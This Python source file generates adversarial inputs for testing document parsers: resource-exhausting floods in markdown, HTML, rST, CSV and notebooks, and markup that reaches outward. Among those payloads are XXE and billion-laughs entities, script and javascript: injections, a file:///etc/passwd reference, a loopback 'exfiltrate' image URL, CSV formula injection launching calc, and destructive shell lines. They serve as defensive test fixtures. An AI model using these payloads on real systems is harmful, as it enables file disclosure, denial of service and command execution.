"""Poison in markup: floods that parsers choke on, and markup that reaches for what is outside."""

import json
from collections.abc import Callable, Iterator

Family = Iterator[tuple[str, str | bytes, bytes | Callable[[], bytes], str]]


def floods() -> Family:
    texts: dict[str, Callable[[], str]] = {
        "1 M headings": lambda: "# a\n" * 1_000_000,
        "100 k headings": lambda: "# a\n\nb\n" * 60_000,
        "50 MB line": lambda: "x" * 50_000_000,
        "19 MB line": lambda: "x" * 19_000_000,
        "4 MB line": lambda: "words " * 700_000,
        "4 MB word": lambda: "x" * 4_000_000,
        "emphasis 150 KB": lambda: "*a_" * 50_000,
        "emphasis 1 MB": lambda: "*a_ " * 250_000,
        "open brackets 50 k": lambda: "[" * 50_000,
        "open brackets 1 M": lambda: "[" * 1_000_000,
        "images unclosed": lambda: "![" * 100_000,
        "links unclosed": lambda: "[a](" * 100_000,
        "quotes in one line": lambda: ">" * 20_000 + " words",
        "quotes 500 k": lambda: ">" * 500_000 + " words",
        "stairs of quotes": lambda: "\n".join("> " * n + "words" for n in range(900)),
        "nested lists": lambda: "\n".join("  " * n + "- a" for n in range(2_000)),
        "list in one line": lambda: "- " * 50_000 + "words",
        "table of 300 k cells": lambda: "|a" * 100 + "|\n" + "|-" * 100 + "|\n" + ("|x" * 100 + "|\n") * 3_000,
        "table of one row": lambda: "|a" * 100_000 + "|\n" + "|-" * 100_000 + "|\n",
        "backticks": lambda: " ".join("`" * n for n in range(1, 1_500)),
        "angles": lambda: "<" * 200_000,
        "comments unclosed": lambda: "<!-- " * 100_000,
        "processing unclosed": lambda: "<?" * 200_000,
        "entities": lambda: "&amp" * 200_000,
        "autolinks": lambda: "<a:" * 100_000,
        "reference definitions": lambda: "".join(f"[r{n}]: /u{n}\n" for n in range(50_000)) + "\nwords\n",
        "references to nothing": lambda: "[a][b] " * 100_000,
        "tildes": lambda: "~" * 300_000,
        "setext": lambda: "a\n=\n" * 60_000,
        "fence never closed": lambda: "```\n" + "code\n" * 100_000,
        "escapes": lambda: "\\*" * 300_000,
        "front matter again and again": lambda: "---\na: b\n---\n" * 20_000,
    }  # fmt: skip
    for about, text in texts.items():
        yield "floods", f"flood {about}.md", lambda text=text: text().encode(), ""
    jsx = "<A>" * 20_000 + "words" + "</A>" * 20_000
    yield "floods", "flood components.mdx", jsx.encode(), ""
    yield "floods", "flood lines.txt", lambda: b"\n\nwords" * 200_000, ""


def pages(outside: str) -> Family:
    texts = {
        "script.md": "# T\n\n<script>fetch('http://127.0.0.1:9/')</script>\n\n[x](javascript:alert(1))\n",
        "data link.md": "# T\n\n[x](data:text/html;base64,PHNjcmlwdD4=) ![y](file:///etc/passwd)\n",
        "remote image.md": "# T\n\n![exfiltrate](http://127.0.0.1:9/?q=secret)\n",
        "include.md": f"# T\n\n{{% include '{outside}' %}} <!--#include file='{outside}'--> ![[{outside}]]\n",
        "script.html": "<h1>T</h1><script>document.write('x')</script><p onclick=alert(1)>words</p>",
        "frames.html": f"<p>words</p><iframe src='file://{outside}'></iframe><object data='{outside}'></object>",
        "refresh.html": "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'><p>words</p>",
        "base.html": "<base href='http://127.0.0.1:9/'><link rel=stylesheet href=x.css><p>words</p>",
        "svg inside.html": "<svg onload=alert(1)><text>words</text><script>x</script></svg><p>more</p>",
        "template.html": "<template><p>words</p></template><noscript>no</noscript><p>yes</p>",
        "external entity.xhtml": f"<!DOCTYPE r [<!ENTITY x SYSTEM 'file://{outside}'>]><html><p>words &x;</p></html>",
        "parameter entity.xhtml": f"<!DOCTYPE r [<!ENTITY % p SYSTEM 'file://{outside}'> %p;]><html><p>words</p></html>",
        "xinclude.xhtml": f"<html xmlns:xi='http://www.w3.org/2001/XInclude'><p>words<xi:include href='{outside}' parse='text'/></p></html>",
        "laughs.xhtml": _laughs("<html><p>&i;</p></html>"),
    }
    for name, text in texts.items():
        yield "markup that reaches out", f"page {name}", text.encode(), ""
    deep = {
        "deep divs.html": "<div>" * 100_000 + "words",
        "deep tables.html": "<table><tr><td>" * 20_000 + "words",
        "misnested.html": "<b><i><u>" * 20_000 + "words" + "</b></i></u>" * 20_000,
        "attributes.html": "<p " + " ".join(f"a{n}=b" for n in range(100_000)) + ">words</p>",
        "unclosed tags.html": "<a href=" * 100_000,
        "entities.html": "&lt;" * 300_000 + "&#x110000;&#xD800;&#0;",
        "bad charset.html": "<meta charset=utf-16><p>words</p>",
        "doctype.html": "<!DOCTYPE " + "x" * 1_000_000 + "><p>words</p>",
        "comment.html": "<!--" + "-" * 1_000_000 + "<p>words</p>",
        "cell flood.html": "<table>"
        + "<tr>"
        + "<td>x" * 1_000
        + "</tr>" * 1
        + "<tr><td colspan=100000000 rowspan=65000>y</table>",
    }
    for name, text in deep.items():
        yield "HTML floods", f"html {name}", text.encode(), ""
    yield (
        "SVG",
        "picture.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'><script/></svg>",
        "ignored",
    )


def _laughs(rest: str) -> str:
    lines = "".join(f"<!ENTITY {chr(98 + n)} '{('&' + chr(97 + n) + ';') * 10}'>" for n in range(8))
    return f"<!DOCTYPE r [<!ENTITY a 'ha'>{lines}]>{rest}"


def restructured(outside: str) -> Family:
    texts = {
        "include": f"Title\n=====\n\nwords\n\n.. include:: {outside}\n",
        "include literal": f"Title\n=====\n\nwords\n\n.. literalinclude:: {outside}\n",
        "raw file": f"Title\n=====\n\nwords\n\n.. raw:: html\n   :file: {outside}\n",
        "raw url": "Title\n=====\n\nwords\n\n.. raw:: html\n   :url: http://127.0.0.1:9/\n",
        "csv table": f"Title\n=====\n\nwords\n\n.. csv-table:: t\n   :file: {outside}\n",
        "include itself": "Title\n=====\n\nwords\n\n.. include:: rst include itself.rst\n",
        "substitutions": "words |a|\n\n"
        + "".join(
            f".. |{chr(97 + n)}| replace:: |{chr(98 + n)}| |{chr(98 + n)}|\n" for n in range(24)
        )
        + ".. |y| replace:: ha\n",
        "substitution of itself": "words |a|\n\n.. |a| replace:: |a|\n",
        "deep": "\n".join("  " * n + f"* a{n}\n" for n in range(500)),
        "broken table": "+---+\n| a \n+--\n\nwords\n",
        "roles": ":x:`" * 20_000,
        "stars": "*a " * 100_000,
        "evil directive": "words\n\n.. parsed-literal::\n   :class: "
        + "x" * 100_000
        + "\n\n   a\n",
        "code execution": "words\n\n.. exec::\n\n   import os; os.system('touch poisoned')\n",
    }
    for about, text in texts.items():
        yield "reStructuredText", f"rst {about}.rst", text.encode(), ""


def tables() -> Family:
    texts = {
        "formulas.csv": "name,value\n=cmd|' /C calc'!A0,1\n@SUM(1+1),+1\n-2+3,=HYPERLINK(\"http://127.0.0.1:9\")\n",
        "unbalanced quote.csv": 'a,b\n"open,1\n' + "x,y\n" * 10_000,
        "one long field.csv": "a,b\n" + "x" * 3_000_000 + ",1\n",
        "many columns.csv": ",".join(f"c{n}" for n in range(50_000))
        + "\n"
        + ",".join("1" * 50_000)
        + "\n",
        "many rows.csv": "a,b\n" + "1,2\n" * 200_000,
        "ragged.csv": "a,b\n" + "\n".join(",".join("x" * (n % 50)) for n in range(500)) + "\n",
        "only commas.csv": "," * 100_000 + "\n",
        "quotes.csv": '"' * 100_001 + "\n",
        "tabs.tsv": "a\tb\n=1+1\t2\n",
    }
    for name, text in texts.items():
        yield "tables", f"table {name}", text.encode(), ""


def notebooks() -> Family:
    def book(*cells: object, **more: object) -> str:
        return json.dumps(
            {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells, **more}
        )

    cell = {"cell_type": "markdown", "metadata": {}, "source": "# Title\n\nwords"}
    texts = {
        "no JSON": "{",
        "not a mapping": "[1, 2]",
        "no cells": "{}",
        "cells of a wrong kind": book(1, None, "x", {"cell_type": 7, "source": {"a": 1}}),
        "deep": '{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}",
        "half a pair": book({**cell, "source": "words \ud800 words"}),
        "NUL": book({**cell, "source": "words \0 words"}),
        "numbers": '{"nbformat": 4, "cells": [], "a": 1e999, "b": NaN, "c": ' + "9" * 100_000 + "}",
        "duplicate keys": '{"nbformat": 4, "cells": [], "cells": [{"cell_type": "markdown", "source": "words"}]}',
        "huge output": book(cell, {"cell_type": "code", "source": "1", "outputs": [{"output_type": "stream", "text": "x" * 4_000_000}]}),
        "version 99": book(cell, nbformat=99),
        "script": book({**cell, "source": "<script>x</script> words"}),
    }  # fmt: skip
    for about, text in texts.items():
        yield "notebooks", f"notebook {about}.ipynb", text.encode("utf-8", "surrogatepass"), ""


def code() -> Family:
    texts = {
        "parentheses.py": "(" * 100_000,
        "deep.py": "".join(" " * n + "if a:\n" for n in range(300)),
        "no syntax.py": "def (:\n  £\n",
        "one line.js": "a=1;" * 500_000,
        "strings.py": "'''" * 30_001,
        "regular expression.js": "/" * 200_000,
        "shell.sh": "touch poisoned; rm -rf /nowhere\n",
    }
    for name, text in texts.items():
        yield "source code", f"code {name}", text.encode(), ""
